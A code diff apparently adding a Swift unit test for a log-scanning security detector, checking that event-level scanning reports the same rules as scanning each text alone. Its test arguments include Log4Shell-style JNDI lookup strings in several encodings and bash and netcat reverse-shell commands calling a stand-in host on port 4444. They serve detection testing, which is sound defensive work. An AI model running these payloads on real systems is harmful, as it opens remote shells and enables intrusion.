@@ -55,6 +55,20 @@ private func request(_ attributes: [Attribute]) -> Event {
     #expect(findings(TextInEvents(artifact: artifact), [event]).isEmpty)
   }
 
+  /// One search over all texts decides whether they are looked at one by one: it must not keep anything back.
+  @Test(arguments: [
+    "${jndi:ldap://203.0.113.66/a}", "%24%7Bjndi:ldap://203.0.113.66/a%7D", "\\u0024\\u007bjndi:dns://203.0.113.66/a}",
+    "JHtqbmRpOmxkYXA6Ly8yMDMuMC4xMTMuNjYvYX0=", "bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'",
+    "nc 203.0.113.66 4444 -e /bin/sh", "sync; nc.traditional -e /bin/sh 203.0.113.66 4444",
+    "BASH%20-I+%3E%26+%2Fdev%2Ftcp%2F203.0.113.66%2F4444", "echo L2Rldi90Y3Av | base64 -d", "plain text", "rsync ",
+  ])
+  func theFirstLookKeepsNothingBack(_ text: String) {
+    let event = request([Attribute("user_agent", "a"), Attribute("headers", .texts(["b", text])), Attribute("n", 1)])
+    let alone = text.withView { TextDetectors.scan($0, .logField) }
+    let found = findings(TextInEvents(artifact: artifact), [event])
+    #expect(Set(found.map(\.rule)) == Set(alone.map(\.rule)))
+  }
+
   @Test func aCommandLineIsACommand() {
     let event = Event(
       time: nil, dataType: "linux:capture:process", message: "",
